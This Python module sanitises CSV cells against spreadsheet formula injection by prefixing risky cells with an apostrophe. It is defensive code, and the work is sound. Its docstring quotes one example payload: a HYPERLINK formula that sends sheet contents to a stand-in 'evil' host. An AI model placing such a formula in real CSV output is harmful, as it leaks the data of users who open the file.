"""Every CSV avsets writes goes through ``csv_writer``: text that a spreadsheet would run as a formula is defused.

Why: the CSVs we publish or hand to users (``takedowns.csv``, ``--missing-csv``, ``compare --out``, the report's
tables) carry text from users and from upstream (a takedown reason, a ledger's error, a class name). Opened in
Excel, LibreOffice or Google Sheets, a cell that starts with ``=``, ``+``, ``-`` or ``@`` is evaluated:
``=HYPERLINK("https://evil/?"&A1, "click")`` leaks the sheet, DDE payloads run commands. The OWASP rule is
applied: such a cell gets a leading ``'`` (shown as text by every spreadsheet, and visible to a program).

Ids stay exactly as they are: a YouTube id may start with ``-`` (``-vggAAAAAA0_1000_11000``), and a cell
made only of letters, digits and ``_ - . : /`` and spaces cannot call a function, so a ``+``/``-`` cell of
that shape (an id, a negative number, a signed time) is left alone and our readers keep reading it.
A carriage return inside a cell becomes a newline (which the writer quotes; a bare CR was written unquoted
and split the row in every reader). Defusing is idempotent (a cell starting with ``'`` is safe), so rewriting a CSV we read back (a sync that
appends to ``takedowns.csv``) never stacks quotes.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

#: a cell starting with one of these is always evaluated (``\t``/``\r`` hide the trigger in some readers)
_ALWAYS = ("=", "@", "\t", "\r", "\n", "\uff1d", "\uff20")  # full-width = and @ as well
#: a ``+``/``-`` cell is harmless when it is only of these characters (no call, no reference to another app)
_PLAIN_SIGNED = re.compile(r"^[+\-\uff0b\uff0d][\w.\-:/ ]*$")


def safe_cell(value: Any) -> Any:
    """``value``, or its text with a leading ``'`` when a spreadsheet would evaluate it; numbers untouched."""
    if not isinstance(value, str) or not value:
        return value
    if "\r" in value:  # csv quotes "\n" cells but not "\r" ones (lineterminator "\n"): a bare CR split the row
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    first = value[0]
    if first in _ALWAYS:
        return "'" + value
    if first in "+-\uff0b\uff0d" and not _PLAIN_SIGNED.match(value):
        return "'" + value
    return value


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any]) -> Any: ...


class SafeWriter:
    """A ``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, f: Any, **kwargs: Any):
        self._w: _Writer = csv.writer(f, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(f: Any, **kwargs: Any) -> SafeWriter:
    """``csv.writer(f, **kwargs)`` that defuses spreadsheet formulas (see the module doc)."""
    return SafeWriter(f, **kwargs)


__all__ = ["SafeWriter", "csv_writer", "safe_cell"]
